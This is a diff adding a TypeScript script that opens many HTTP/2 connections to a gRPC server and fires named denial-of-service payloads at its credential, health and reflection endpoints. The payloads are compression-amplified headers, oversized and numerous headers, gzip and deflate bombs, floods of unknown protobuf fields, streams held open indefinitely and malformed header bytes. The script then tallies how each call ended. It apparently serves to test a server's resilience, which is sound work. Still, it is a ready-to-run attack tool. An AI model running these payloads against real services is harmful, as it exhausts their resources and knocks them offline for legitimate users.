@@ -1,0 +1,129 @@
+import { once } from 'node:events';
+import {
+  connect,
+  type ClientHttp2Session,
+  type ClientHttp2Stream,
+  type OutgoingHttpHeaders,
+} from 'node:http2';
+import { connect as connectSocket } from 'node:net';
+import { argv } from 'node:process';
+import { setTimeout as pause } from 'node:timers/promises';
+import { deflateSync, gzipSync } from 'node:zlib';
+
+// A stranger: `node attack.ts ADDRESS KIND CONNECTIONS CALLS PER_SECOND SOURCE`. Opens connections and makes so many calls of a
+// kind on each, all at once or at a rate. Calls of a kind that is held are never ended. Reports what has become of them.
+
+const [, , address = '', kind = '', connections = '1', calls = '1', perSecond = '0', localAddress = ''] =
+  argv;
+
+const ISSUE = '/callpass.v1.CredentialService/IssueCredentials';
+const CHECK = '/grpc.health.v1.Health/Check';
+const WATCH = '/grpc.health.v1.Health/Watch';
+const REFLECT = '/grpc.reflection.v1.ServerReflection/ServerReflectionInfo';
+const MIB = 1024 * 1024;
+
+interface Attack {
+  readonly path: string;
+  readonly headers?: OutgoingHttpHeaders;
+  /** The message with its prefix. */
+  readonly body: Buffer;
+  /** The request is never complete. */
+  readonly held?: boolean;
+}
+
+/** A message with its prefix; the flag says that it is compressed. */
+function framed(message: Buffer, compressed = false): Buffer {
+  const prefix = Buffer.alloc(5);
+  prefix[0] = Number(compressed);
+  prefix.writeUInt32BE(message.length, 1);
+  return Buffer.concat([prefix, message]);
+}
+
+const EMPTY = framed(Buffer.alloc(0));
+/** HTTP/2 sends a value once and then its index, one byte, for each time that it occurs. */
+const COMMAS = { 'a-bin': Array<string>(25).fill(','.repeat(3000)) };
+const SHORT_VALUES = { 'a-bin': Array<string>(25).fill('AA,'.repeat(1000)) };
+/** Field 1000 as an empty text, again and again: two million fields that no message has. */
+const UNKNOWN_FIELDS = Buffer.alloc(4 * MIB - 4, Buffer.from([0xc2, 0x3e, 0x00]));
+const ZEROS = Buffer.alloc(4 * MIB - 64);
+
+const ATTACKS: Readonly<Record<string, Attack>> = {
+  commas: { path: ISSUE, headers: COMMAS, body: EMPTY },
+  'commas-held': { path: ISSUE, headers: COMMAS, body: EMPTY, held: true },
+  'short-values': { path: CHECK, headers: SHORT_VALUES, body: EMPTY },
+  'long-value': { path: ISSUE, headers: { 'x-long': 'v'.repeat(60_000) }, body: EMPTY },
+  'many-headers': {
+    path: ISSUE,
+    headers: Object.fromEntries(Array.from({ length: 1000 }, (_, i) => [`x-${i}`, ''])),
+    body: EMPTY,
+  },
+  gzip: { path: ISSUE, headers: { 'grpc-encoding': 'gzip' }, body: framed(gzipSync(ZEROS), true) },
+  deflate: { path: ISSUE, headers: { 'grpc-encoding': 'deflate' }, body: framed(deflateSync(ZEROS), true) },
+  'unknown-fields': { path: CHECK, body: framed(UNKNOWN_FIELDS) },
+  watch: { path: WATCH, body: EMPTY },
+  reflect: { path: REFLECT, body: framed(Buffer.from([0x3a, 0x00])), held: true },
+  'bad-bytes': {
+    path: ISSUE,
+    headers: { authorization: 'Bearer canary-of-a-stranger\xe9', 'x-name': 'canary-of-a-stranger\xe9' },
+    body: EMPTY,
+  },
+};
+
+const attack = ATTACKS[kind];
+if (attack === undefined) throw new Error(`no attack is named ${kind}`);
+
+/** Calls by what became of them: the gRPC status, `open` or `lost`. */
+const outcome: { sent: number; lostConnections: number; ended: Record<string, number> } = {
+  sent: 0,
+  lostConnections: 0,
+  ended: {},
+};
+
+function open(): ClientHttp2Session {
+  const [host, port] = address.split(':');
+  const session = connect(`http://${address}`, {
+    createConnection: () => connectSocket({ host, port: Number(port), localAddress }),
+    maxSendHeaderBlockLength: MIB,
+    maxSessionMemory: 1024,
+  });
+  session.on('error', () => undefined);
+  session.once('close', () => outcome.lostConnections++);
+  return session;
+}
+
+function call(session: ClientHttp2Session): ClientHttp2Stream | undefined {
+  if (session.destroyed || session.closed) return undefined;
+  const { path, headers, body, held } = attack as Attack;
+  const stream = session.request({
+    ':method': 'POST',
+    ':path': path,
+    'content-type': 'application/grpc',
+    te: 'trailers',
+    ...headers,
+  });
+  outcome.sent++;
+  let status: unknown;
+  stream.on('response', (header) => (status = header['grpc-status'] ?? status));
+  stream.on('trailers', (trailer) => (status = trailer['grpc-status'] ?? status));
+  stream.on('error', () => undefined);
+  stream.on('close', () => {
+    const name = status === undefined ? `reset ${stream.rstCode}` : String(status);
+    outcome.ended[name] = (outcome.ended[name] ?? 0) + 1;
+  });
+  stream.resume();
+  if (held) stream.write(body);
+  else stream.end(body);
+  return stream;
+}
+
+const sessions = Array.from({ length: Number(connections) }, open);
+await Promise.all(sessions.map((session) => once(session, 'remoteSettings').catch(() => undefined)));
+const rate = Number(perSecond);
+for (let made = 0; made < Number(calls); made++) {
+  for (const session of sessions) call(session);
+  if (rate > 0) await pause((1000 * sessions.length) / rate);
+}
+// What is refused is refused by then; what is held stays until this process is ended.
+await pause(2000);
+process.send?.({ ...outcome, done: true });
+setInterval(() => process.send?.({ ...outcome, done: true }), 500);
